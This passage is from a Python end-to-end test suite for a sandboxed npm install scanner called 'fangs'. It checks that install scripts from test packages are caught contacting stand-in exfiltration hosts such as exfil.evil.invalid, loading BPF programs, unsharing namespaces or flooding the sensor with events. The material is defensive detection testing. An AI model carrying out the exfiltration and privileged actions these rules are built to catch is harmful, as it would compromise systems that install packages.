                         ("localhost", HTTPS_PORT, "localhost", True, 200))
        self.assertNotIn("path", tunnel)
        self.assertGreater(tunnel["bytes_in"], len(TOOL))
        self.assertGreater(tunnel["bytes_out"], 100)
        self.assertEqual((plain["host"], plain["port"], plain["path"], plain["allowed"], plain["status"]),
                         ("localhost", HTTP_PORT, "/fetcher/v1/tool-linux-x64.sha256", True, 200))
        self.assertGreater(plain["bytes_in"], 64)
        for e in reqs:
            self.assert_by_script(e, "1.0.0")
        # the same process's connect to the proxy, as the sensor saw it
        connects = [e for e in self.events(run["id"], "net_connect") if e.get("port") == 3128]
        self.assertTrue(connects and all(c["addr"] == "127.0.0.3" for c in connects), connects)
        self.assertEqual({e["pid"] for e in reqs}, {c["pid"] for c in connects})
        # a host the configuration allows for downloads: low, not a network finding
        rules = {(d["kind"], d["value"]): d["severity"] for d in out["deviations"] if d["kind"].startswith("rule:")}
        self.assertEqual(rules.get(("rule:script-download-host", "localhost")), "low", out["deviations"])
        self.assertNotIn(("rule:script-network-not-registry", "localhost"), rules)

    def test_2_refused_and_direct(self):
        self.scan("fetcher@1.0.0")
        self.hosts.clear()
        out = self.scan("fetcher@1.1.0", code=4)
        run = out["run"]
        # the refusal reached the install script, which failed the install
        self.assertNotEqual(run["exit_code"], 0)
        self.assertEqual(run["state"], "failed")
        self.assertIn("fetcher: download failed: proxy said 403", run_fangs(
            self.db, ["run", "show", run["id"]]).stdout + str(out))
        reqs = self.events(run["id"], "proxy_request")
        refused = [e for e in reqs if e["host"] == "exfil.evil.invalid"]
        self.assertEqual(len(refused), 1, reqs)
        self.assertEqual((refused[0]["allowed"], refused[0]["status"], refused[0]["bytes_out"], refused[0]["port"]),
                         (False, 403, 0, 443))
        self.assert_by_script(refused[0], "1.1.0")
        self.assertEqual(self.hosts.served()["https"], ["/fetcher/v1/tool-linux-x64"])
        # a direct connect still fails, and is seen
        direct = [e for e in self.events(run["id"], "net_connect") if e.get("addr") == "203.0.113.50"]
        self.assertEqual(len(direct), 1)
        self.assert_by_script(direct[0], "1.1.0")
        # judged: the host asked of the proxy is new, like a new TLS name
        got = {(d["kind"], d["value"]) for d in out["deviations"]}
        self.assertIn(("net_new_https_host", "exfil.evil.invalid"), got)
        self.assertIn(("net_new_destination", "203.0.113.50:443/tcp"), got)
        # and judged by the rules: only the proxy saw that name (no lookup, no TLS)
        self.assertIn(("rule:script-network-not-registry", "exfil.evil.invalid"), got)
        # what 1.0.0 fetched is not news
        self.assertNotIn(("net_new_https_host", "localhost"), got)

    def test_3_none_cannot_download(self):
        out = self.scan("fetcher@1.0.0", network="none", code=4)
        self.assertNotEqual(out["run"]["exit_code"], 0)
        self.assertEqual(out["run"]["state"], "failed")
        self.assertEqual(self.hosts.served(), {"https": [], "http": []})
        self.assertEqual(self.events(out["run"]["id"], "proxy_request"), [])


def closed_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


class ScanErrors(unittest.TestCase):
    """Scans that fail before anything is installed: a clear message naming
    the cause, exit 1, and nothing in the database."""

    @classmethod
    def setUpClass(cls):
        cls.registry = FakeRegistry(corrupt=["banner@1.0.0"], bad_integrity=["banner@1.0.1"]).start()

    @classmethod
    def tearDownClass(cls):
        cls.registry.stop()

    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory(prefix="fangs-e2e-")
        self.db = os.path.join(self.tmp.name, "fangs.db")

    def tearDown(self):
        self.tmp.cleanup()

    def assert_fails(self, spec, *messages, registry=None):
        p = run_fangs(self.db, ["scan", "--quiet", "--registry", registry or self.registry.url, spec])
        self.assertEqual(p.returncode, 1, "stdout: %s\nstderr: %s" % (p.stdout, p.stderr))
        self.assertEqual(p.stdout, "")
        line = p.stderr.strip().splitlines()[-1]
        self.assertTrue(line.startswith("fangs: scan of %s failed: " % spec), p.stderr)
        for m in messages:
            self.assertIn(m, line)
        runs = run_fangs(self.db, ["--json", "run", "list"])
        self.assertEqual(runs.returncode, 0, runs.stderr)
        self.assertEqual(json.loads(runs.stdout), [], "a failed scan left a run behind")
        return line

    def test_bad_spec(self):
        # refused by npm's rules before npm runs
        self.assert_fails("banner@@@", "not a registry spec", "holds '@'")
        self.assert_fails("banner@../../x", "not a registry spec", "'..'")

    def test_missing_package(self):
        self.assert_fails("no-such-package@1.0.0", "not found in the registry")

    def test_missing_version(self):
        self.assert_fails("banner@9.9.9", "no such version")

    def test_unreachable_registry(self):
        url = "http://127.0.0.1:%d/" % closed_port()
        self.assert_fails("banner@1.0.0", "registry unreachable (connection refused)", url, registry=url)

    def test_corrupt_tarball(self):
        self.assert_fails("banner@1.0.0", "corrupt tarball")

    def test_tarball_integrity_mismatch(self):
        self.assert_fails("banner@1.0.1", "corrupt tarball (integrity check failed)")

    def test_missing_local_directory(self):
        self.assert_fails("./no/such/package", "does not exist")

    def test_json_error_shape(self):
        p = run_fangs(self.db, ["--json", "scan", "--quiet", "--registry", self.registry.url,
                                "no-such-package@1.0.0"])
        self.assertEqual(p.returncode, 1)
        out = json.loads(p.stdout)
        self.assertEqual(len(out), 1)
        self.assertEqual(out[0]["spec"], "no-such-package@1.0.0")
        self.assertIn("not found in the registry", out[0]["error"])


class ScanAttacks(unittest.TestCase):
    """One small malicious package per class of behaviour the sensor once
    missed (benign 1.0.0, attack 1.1.0), in the ns sandbox: the finding must
    be there cold (the package's first run: rules) and after a baseline
    (1.0.0 seeds, then 1.1.0: deviations and rules)."""

    @classmethod
    def setUpClass(cls):
        if os.geteuid() != 0:
            raise RuntimeError("fangs scan needs root: run the e2e tests as root")
        cls.env = dict(os.environ)
        cls.env.pop("DOCKER_HOST", None)
        cls.registry = FakeRegistry().start()

    @classmethod
    def tearDownClass(cls):
        cls.registry.stop()

    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory(prefix="fangs-e2e-")

    def tearDown(self):
        self.tmp.cleanup()

    def scan(self, db, spec):
        p = run_fangs(db, ["--json", "scan", "--quiet", "--sandbox", "ns", "--registry", self.registry.url, spec],
                      env=self.env)
        out = json.loads(p.stdout)[0] if p.stdout.strip() else None
        self.assertTrue(out and "error" not in out, "scan %s: %s\n%s" % (spec, p.stdout[-2000:], p.stderr[-2000:]))
        self.assertEqual(out["run"]["state"], "succeeded", out["run"]["error"])
        self.assertEqual(out["run"]["exit_code"], 0, "the install failed in the sandbox")
        return out

    def cold_and_after_baseline(self, package):
        """The 1.1.0 findings {(kind, value): severity} cold and after 1.0.0 seeded."""
        cold = self.scan(os.path.join(self.tmp.name, "cold.db"), package + "@1.1.0")
        self.assertEqual(cold["baseline"], "pending")
        db = os.path.join(self.tmp.name, "warm.db")
        seed = self.scan(db, package + "@1.0.0")
        self.assertEqual(seed["baseline"], "seeded")
        self.assertEqual(seed["deviations"], [], "the benign release found something")
        warm = self.scan(db, package + "@1.1.0")
        self.assertEqual(warm["baseline"], "pending")
        for out in (cold, warm):
            for d in out["deviations"]:
                if d["kind"] == "rule:sensor-blinded":  # what was lost has no event, no origin
                    self.assertIsNone(d["origin"])
                    continue
                self.assertEqual(d["origin"]["package"], package, d)
        return ({(d["kind"], d["value"]): d["severity"] for d in cold["deviations"]},
                {(d["kind"], d["value"]): d["severity"] for d in warm["deviations"]}, cold, warm)

    def assert_has(self, got, expected):
        for key, sev in expected.items():
            self.assertIn(key, got, "missing %s in %s" % (key, sorted(got)))
            self.assertEqual(got[key], sev, key)

    def test_network_paths(self):
        cold, warm, _, _ = self.cold_and_after_baseline("netpaths")
        rules = {("rule:script-network-not-registry", "leak.exfil.invalid"): "high",
                 ("rule:script-network-not-registry", "split.evil.invalid"): "high",
                 ("rule:script-network-not-registry", "192.0.2.1:5353/udp"): "high"}
        self.assert_has(cold, rules)
        self.assert_has(warm, rules)
        self.assert_has(warm, {("net_new_dns", "leak.exfil.invalid"): "medium",
                               ("net_new_https_host", "split.evil.invalid"): "high",
                               ("net_new_destination", "192.0.2.1:5353/udp"): "high"})

    def test_privileged_operations(self):
        cold, warm, _, _ = self.cold_and_after_baseline("privops")
        rules = {("rule:signal-outside-tree", "kill SIGCONT sh (run)"): "high",
                 ("rule:namespace-by-script", "unshare user"): "medium",
                 ("rule:kernel-code-load", "bpf prog_load"): "critical"}
        # finit_module is seen where the kernel has module tracepoints (or with
        # FANGS_SENSOR_PROBE_MODULES_RAW): not asserted, it depends on the kernel
        self.assert_has(cold, rules)
        self.assert_has(warm, rules)
        self.assert_has(warm, {("proc_new_syscall", "kill SIGCONT sh (run)"): "high",
                               ("proc_new_syscall", "unshare user"): "high",
                               ("proc_new_syscall", "bpf prog_load"): "high"})

    def test_event_flood(self):
        cold, warm, cold_out, warm_out = self.cold_and_after_baseline("flood")
        for got, out in ((cold, cold_out), (warm, warm_out)):
            run = out["run"]
            self.assertGreater(run["events_dropped"], 0, "250k opens fit the budget?")
            # the budget holds: what is stored is bounded
            self.assertLessEqual(run["event_count"], 200000 + 5000)
            blinded = "sensor blinded: %d events lost" % run["events_dropped"]
            self.assert_has(got, {("rule:sensor-blinded", blinded): "high"})
        # a flood of new paths is 200 findings and one that counts the rest
        reads = [k for k in warm if k[0] == "fs_new_path_read"]
        self.assertLessEqual(len(reads), 201 + 20)
        self.assertTrue(any(" more new values, from " in v for _, v in reads), reads[:5])


def closed_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


if __name__ == "__main__":
    unittest.main()
